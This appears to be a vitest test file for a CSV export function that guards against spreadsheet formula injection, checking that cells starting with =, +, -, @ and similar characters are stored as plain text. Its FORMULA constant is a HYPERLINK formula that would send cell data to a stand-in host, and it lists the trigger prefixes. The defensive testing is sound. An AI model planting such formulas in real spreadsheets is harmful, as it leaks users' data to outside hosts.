/** A file for spreadsheets says what the table says, and nothing in it is calculated, wherever a spreadsheet parts cells. */
import { describe, expect, test } from 'vitest'
import { parseCsv } from '../../supabase/functions/_shared/files/csv'
import { csvOf } from '../../supabase/functions/_shared/files/safeCsv'

const FORMULA = 'HYPERLINK("https://ajeno.example?"&A1)'
const BEGINS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '"=', "'="]
const lineOf = (cell: string) => csvOf([['VI-1', cell, 'fin']]).slice(1, -2)

/** The cells of a spreadsheet that parts them at semicolons: a quote counts only where a cell begins. */
function cellsBySemicolon(text: string): string[] {
  const cells = text.match(/(?:^|[;\n\r])(?:"(?:[^"]|"")*"|[^;\n\r]*)/gu) ?? []
  return cells.map((cell) => cell.replace(/^[;\n\r]/u, '').replace(/^"|"$/gu, ''))
}
const isCalculated = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/u.test(cell)

describe('a cell that a spreadsheet would calculate', () => {
  test.each(BEGINS.map((begin) => [begin]))('beginning with %j is kept a text', (begin) => {
    const [row] = parseCsv(`${lineOf(`${begin}${FORMULA}`)}\n`)!
    expect(row).toHaveLength(3)
    expect(isCalculated(row![1]!)).toBe(false)
  })

  test.each(['x;', 'x";', 'x\n', 'x\r\n', 'x\t', '"x";', ';', ';;'])('behind %j is kept a text', (before) => {
    for (const begin of BEGINS) {
      const cells = cellsBySemicolon(lineOf(`${before}${begin}${FORMULA};y`))
      expect(cells.filter(isCalculated), JSON.stringify(begin)).toEqual([])
    }
  })
})

test('an honest text stays as it is', () => {
  const honest = ['Ana Pérez', 'a; b', 'uno, dos', 'dijo "sí"', 'a-b', 'x = y', '', '12:30–14:00']
  expect(parseCsv(`${csvOf([honest]).slice(1, -2)}\n`)).toEqual([honest])
})
